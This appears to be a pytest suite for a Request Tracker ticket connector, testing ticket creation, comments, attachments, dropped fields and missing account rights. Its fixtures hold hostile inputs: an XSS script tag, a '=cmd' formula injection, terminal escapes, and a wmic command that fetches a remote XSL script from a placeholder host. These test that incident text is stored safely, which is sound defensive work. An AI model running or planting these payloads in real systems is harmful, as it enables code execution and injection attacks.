"""The RT connector against a real Request Tracker 5, with accounts that lack one right each."""

from __future__ import annotations

from collections.abc import Callable
from contextlib import suppress
from itertools import count
from typing import Any

import msgspec
import pytest
import requests
from requests.adapters import HTTPAdapter

from connectors.document import Bullets, Code, Document, Heading, Paragraph, Table
from connectors.errors import AuthFailed, ConnectorError, NotFound, OutcomeUnknown, Rejected
from connectors.http import HttpSettings, Runtime
from connectors.model import Secret, TicketDraft, TicketRef
from connectors.tickets.rt import Rt
from connectors.tickets.rt_text import MAX_CHARACTERS, text_of
from tests.fake_clock import FakeClock
from tests.real.rt_server import MAX_BYTES, RIGHTS, RtServer

HOSTILE = (
    'a "b" \' {code} <script>alert(1)</script> =cmd \u202e\x1b[2J\r\n[stockade:x]\n\u00e9\U0001f600'
)
BODY = Document(
    (
        Heading("What happened"),
        Paragraph(HOSTILE),
        Code('wmic os get /format:"http://192.0.2.1/x.xsl"\nsecond line\n\n  =third'),
        Bullets(("one", HOSTILE)),
        Table(("host", "state"), (("ws-1", "contained"), ("ws-2", HOSTILE))),
    )
)
GONE = TicketRef(id="999999", key="RT#999999", url="")
numbers = count(1)


@pytest.fixture
def server(rt_server: RtServer) -> RtServer:
    return rt_server


@pytest.fixture
def faults() -> list[ConnectorError]:
    return []


@pytest.fixture
def rt(server: RtServer, faults: list[ConnectorError]) -> Rt:
    return connect(server, faults=faults)


def connect(
    server: RtServer,
    account: str = "stockade",
    faults: list[ConnectorError] | None = None,
    transport: Callable[[], HTTPAdapter] | None = None,
    **options: Any,
) -> Rt:
    return Rt(
        name="tickets",
        tenant="main",
        settings=HttpSettings(base_url=server.base_url),
        credentials={"token": Secret(server.tokens.get(account, account))},
        options=msgspec.convert({"queue": "Incidents", **options}, Rt.Options),
        runtime=Runtime(
            clock=FakeClock(),
            emulated=True,
            on_fault=faults.append if faults is not None else None,
            transport=transport,
        ),
    )


def draft(title: str = "wmic on ws-1", **more: Any) -> TicketDraft:
    return TicketDraft(correlation=f"case-{next(numbers)}", title=title, body=BODY, **more)


def missing(rt: Rt) -> list[str]:
    return [f"{one.what}: {one.mend}" for one in rt.check() if not one.ok]


# -- tickets ---------------------------------------------------------------------------------------


def test_ticket_when_opened_commented_and_attached_then_all_is_found_again(
    server: RtServer, rt: Rt, faults: list[ConnectorError]
) -> None:
    wanted = draft(HOSTILE)
    assert rt.find_ticket(wanted.correlation) is None
    ticket = rt.create_ticket(wanted)
    assert rt.find_ticket(wanted.correlation) == ticket
    assert rt.find_ticket(wanted.correlation + "0") is None
    rt.comment_ticket(ticket, "run/1", BODY)
    assert rt.find_comment(ticket, "run/1")
    assert not rt.find_comment(ticket, "run/2")
    assert not rt.find_attachment(ticket, "case.json")
    rt.attach_file(ticket, "case.json", b"\x00\xff{}\r\n--boundary" * 1000)
    assert rt.find_attachment(ticket, "case.json")
    assert not rt.find_attachment(ticket, "case.jso")
    assert not rt.read_ticket(ticket).is_closed
    assert faults == []
    assert requests.get(ticket.url, timeout=20).status_code == 200


def test_text_when_read_as_it_is_stored_then_it_is_what_was_sent(server: RtServer, rt: Rt) -> None:
    ticket = rt.create_ticket(draft())
    rt.comment_ticket(ticket, "k", BODY)
    parts = server.parts(ticket.id)
    texts = [part.content.decode().rstrip("\n") for part in parts if part.content]
    assert texts == [text_of(BODY)] * 2
    assert {part.content_type for part in parts} == {"text/plain"}


def test_find_when_two_tickets_have_the_key_then_the_older_one(rt: Rt) -> None:
    wanted = draft()
    first, second = rt.create_ticket(wanted), rt.create_ticket(wanted)
    assert int(first.id) < int(second.id)
    assert rt.find_ticket(wanted.correlation) == first


def test_titles_when_long_or_empty_then_rt_keeps_all_that_was_sent(
    rt: Rt, faults: list[ConnectorError]
) -> None:
    for title in ("é" * 300, "a" * 201, "\U0001f600" * 99, " \n ", "", "x" * 200):
        rt.create_ticket(draft(title))
    assert faults == []


def test_text_when_longer_than_anybody_reads_then_shortened_and_taken(rt: Rt) -> None:
    rows = tuple((f"ws-{n}", "x" * 2000) for n in range(3000))
    ticket = rt.create_ticket(draft())
    rt.comment_ticket(ticket, "long", Document((Table(("host", "line"), rows),)))
    assert rt.find_comment(ticket, "long")
    assert len(text_of(Document((Table(("host", "line"), rows),)))) <= MAX_CHARACTERS


def test_status_when_a_person_resolves_it_then_closed_and_reopened_then_open(
    server: RtServer, rt: Rt
) -> None:
    ticket = rt.create_ticket(draft())
    for status, is_closed in (("open", False), ("resolved", True), ("rejected", True)):
        server.as_root("PUT", f"ticket/{ticket.id}", json={"Status": status})
        read = rt.read_ticket(ticket)
        assert (read.name, read.is_closed) == (status, is_closed)
    rt.comment_ticket(ticket, "late", BODY)
    assert rt.find_comment(ticket, "late")


def test_ticket_when_deleted_then_not_found(server: RtServer, rt: Rt) -> None:
    wanted = draft()
    ticket = rt.create_ticket(wanted)
    server.as_root("PUT", f"ticket/{ticket.id}", json={"Status": "deleted"})
    for call in (
        lambda: rt.read_ticket(ticket),
        lambda: rt.comment_ticket(ticket, "k", BODY),
        lambda: rt.attach_file(ticket, "case.json", b"{}"),
    ):
        with pytest.raises(NotFound, match="deleted"):
            call()
    assert rt.find_ticket(wanted.correlation) is None


def test_ticket_when_merged_into_another_then_it_is_that_one(server: RtServer, rt: Rt) -> None:
    ticket, other = rt.create_ticket(draft()), rt.create_ticket(draft())
    server.as_root("PUT", f"ticket/{ticket.id}", json={"MergeInto": other.id})
    server.as_root("PUT", f"ticket/{other.id}", json={"Status": "resolved"})
    assert rt.read_ticket(ticket).is_closed
    rt.comment_ticket(ticket, "after the merge", BODY)
    assert rt.find_comment(ticket, "after the merge")


def test_ticket_when_there_is_none_then_not_found_and_never_an_empty_list(rt: Rt) -> None:
    calls = (
        lambda: rt.read_ticket(GONE),
        lambda: rt.find_comment(GONE, "k"),
        lambda: rt.find_attachment(GONE, "case.json"),
        lambda: rt.comment_ticket(GONE, "k", BODY),
        lambda: rt.attach_file(GONE, "case.json", b"{}"),
    )
    for call in calls:
        with pytest.raises(NotFound):
            call()


def test_comment_when_more_than_a_page_lies_above_it_then_still_found(
    server: RtServer, rt: Rt
) -> None:
    ticket = rt.create_ticket(draft())
    rt.comment_ticket(ticket, "below", BODY)
    # Each value that is added is a transaction of its own.
    hosts = {"Affected Host": [f"ws-{n}" for n in range(210)]}
    server.as_root("PUT", f"ticket/{ticket.id}", json={"CustomFields": hosts})
    assert rt.find_comment(ticket, "below")
    assert not rt.find_comment(ticket, "above")


class AnswerLost(HTTPAdapter):
    """The real transport, on which the answer to each POST is lost after RT has taken it."""

    def send(self, request: requests.PreparedRequest, *args: Any, **named: Any) -> Any:
        reply = super().send(request, *args, **named)
        if request.method == "POST":
            raise requests.ReadTimeout
        return reply


def test_write_when_its_answer_is_lost_then_unknown_and_found_again(
    server: RtServer, rt: Rt
) -> None:
    deaf = connect(server, transport=AnswerLost)
    wanted = draft()
    with pytest.raises(OutcomeUnknown):
        deaf.create_ticket(wanted)
    ticket = deaf.find_ticket(wanted.correlation)
    assert ticket is not None
    with pytest.raises(OutcomeUnknown):
        deaf.comment_ticket(ticket, "k", BODY)
    assert deaf.find_comment(ticket, "k")
    with pytest.raises(OutcomeUnknown):
        deaf.attach_file(ticket, "case.json", b"{}")
    assert deaf.find_attachment(ticket, "case.json")


# -- what RT drops ---------------------------------------------------------------------------------


def test_create_when_fields_fit_then_rt_keeps_them(
    server: RtServer, faults: list[ConnectorError]
) -> None:
    fields = {"Severity": "high", "Affected Host": ["ws-2", "ws-1"]}
    rt = connect(server, faults=faults, fields=fields, priorities={"high": 70})
    ticket = rt.create_ticket(draft())
    said = server.as_root("GET", f"ticket/{ticket.id}")
    kept = {field["name"]: sorted(field["values"]) for field in said["CustomFields"]}
    assert kept["Severity"] == ["high"]
    assert kept["Affected Host"] == ["ws-1", "ws-2"]
    assert said["Priority"] == "70"
    assert faults == []


@pytest.mark.parametrize("fields", [{"Severity": "apocalyptic"}, {"No Such Field": "x"}])
def test_create_when_rt_drops_a_value_then_it_is_told_and_the_ticket_says_so(
    server: RtServer, faults: list[ConnectorError], fields: dict[str, str]
) -> None:
    rt = connect(server, faults=faults, fields=fields)
    wanted = draft()
    ticket = rt.create_ticket(wanted)
    [name] = fields
    assert [fault.code for fault in faults] == ["field_dropped"]
    assert name in faults[0].text
    texts = [part.content.decode() for part in server.parts(ticket.id)]
    assert any(f"did not keep what was sent for: {name}" in text for text in texts)
    assert rt.find_ticket(wanted.correlation) == ticket


def test_attach_when_rt_cuts_the_file_then_refused(rt: Rt) -> None:
    ticket = rt.create_ticket(draft())
    with pytest.raises(Rejected, match=r"MaxAttachmentSize|dropped"):
        rt.attach_file(ticket, "long.json", b"x" * (MAX_BYTES + 1000))
    assert not rt.find_attachment(ticket, "long.json")
    rt.attach_file(ticket, "short.json", b"x" * (MAX_BYTES - 1000))
    assert rt.find_attachment(ticket, "short.json")


def test_comment_when_the_title_is_long_and_foreign_then_its_mark_is_kept(rt: Rt) -> None:
    for title in ("\u00e9\U0001f600" * 100, "a b" * 100, "", HOSTILE):
        ticket = rt.create_ticket(draft(title))
        rt.comment_ticket(ticket, "k", BODY)
        assert rt.find_comment(ticket, "k")
        rt.attach_file(ticket, f"{'n' * 95}.json", b"{}")
        assert rt.find_attachment(ticket, f"{'n' * 95}.json")


def test_create_when_rt_drops_the_key_then_refused_and_the_ticket_is_named(
    server: RtServer, faults: list[ConnectorError]
) -> None:
    rt = connect(server, "without-ModifyCustomField", faults)
    with pytest.raises(Rejected, match=r"RT#\d+ was opened.*ModifyCustomField.*close RT#\d+"):
        rt.create_ticket(draft())
    assert [fault.code for fault in faults] == ["key_dropped"]


# -- rights ----------------------------------------------------------------------------------------


def test_check_when_all_is_granted_then_good(rt: Rt) -> None:
    rt.comment_ticket(rt.create_ticket(draft()), "k", BODY)
    assert missing(rt) == []


@pytest.mark.parametrize("right", RIGHTS)
def test_check_when_one_right_is_missing_then_it_names_it(server: RtServer, right: str) -> None:
    rt = connect(server, f"without-{right}")
    with suppress(ConnectorError):
        # A ticket of its own, as far as the account may; what it may not is tested below.
        rt.comment_ticket(rt.create_ticket(draft()), "k", BODY)
    told = missing(rt)
    assert any(right in line for line in told), told


def test_check_when_no_ticket_was_opened_yet_then_not_proved(server: RtServer) -> None:
    rt = connect(server, "without-CreateTicket")
    told = missing(rt)
    assert [line.partition(":")[2].split()[:2] for line in told][-1] == ["rights", "on"]
    assert "not proved" in told[-1]


def test_check_when_the_queue_or_a_field_is_not_there_then_it_is_named(server: RtServer) -> None:
    [told] = missing(connect(server, queue="No such queue"))
    assert "No such queue" in told
    told = " ".join(missing(connect(server, key_field="Nothing", fields={"Neither": "x"})))
    assert "Nothing" in told
    assert "Neither" in told


def test_find_when_the_key_field_is_not_seen_then_an_error_and_never_none(
    server: RtServer,
) -> None:
    for rt in (connect(server, "without-SeeCustomField"), connect(server, key_field="Nothing")):
        with pytest.raises(Rejected):
            rt.find_ticket("case-0")


def test_find_when_the_account_sees_no_ticket_then_an_error_and_none_is_opened_again(
    server: RtServer,
) -> None:
    blind, wanted = connect(server, "without-ShowTicket"), draft()
    with pytest.raises(AuthFailed, match="ShowTicket"):
        blind.create_ticket(wanted)
    with pytest.raises(AuthFailed, match="give it ShowTicket"):
        blind.find_ticket(wanted.correlation)


@pytest.mark.parametrize(
    ("right", "call", "word"),
    [
        ("ShowTicket", lambda rt, ticket: rt.read_ticket(ticket), "403"),
        ("ShowTicket", lambda rt, ticket: rt.find_comment(ticket, "k"), "403"),
        ("ShowTicket", lambda rt, ticket: rt.find_attachment(ticket, "a.json"), "403"),
        ("ShowTicket", lambda rt, ticket: rt.create_ticket(draft()), "ShowTicket"),
        ("CommentOnTicket", lambda rt, ticket: rt.comment_ticket(ticket, "k", BODY), "CommentOn"),
        ("CommentOnTicket", lambda rt, ticket: rt.attach_file(ticket, "aa", b"x"), "CommentOn"),
        (
            "ShowTicketComments",
            lambda rt, ticket: rt.comment_ticket(ticket, "k", BODY),
            "ShowTicketComments",
        ),
        (
            "ShowTicketComments",
            lambda rt, ticket: rt.find_comment(ticket, "k"),
            "ShowTicketComments",
        ),
        (
            "ShowTicketComments",
            lambda rt, ticket: rt.find_attachment(ticket, "aa"),
            "ShowTicketComments",
        ),
        ("CreateTicket", lambda rt, ticket: rt.create_ticket(draft()), "403"),
    ],
)
def test_call_when_its_right_is_missing_then_refused(
    server: RtServer, rt: Rt, right: str, call: Any, word: str
) -> None:
    ticket = rt.create_ticket(draft())
    with pytest.raises(AuthFailed, match=word):
        call(connect(server, f"without-{right}"), ticket)


def test_token_when_wrong_then_refused_everywhere(server: RtServer, rt: Rt) -> None:
    ticket, stranger = rt.create_ticket(draft()), connect(server, "1-1-not-a-token")
    for call in (
        lambda: stranger.create_ticket(draft()),
        lambda: stranger.find_ticket("case-0"),
        lambda: stranger.read_ticket(ticket),
        lambda: stranger.comment_ticket(ticket, "k", BODY),
        lambda: stranger.find_comment(ticket, "k"),
    ):
        with pytest.raises(AuthFailed, match="token"):
            call()
    [told] = missing(stranger)
    assert "token" in told
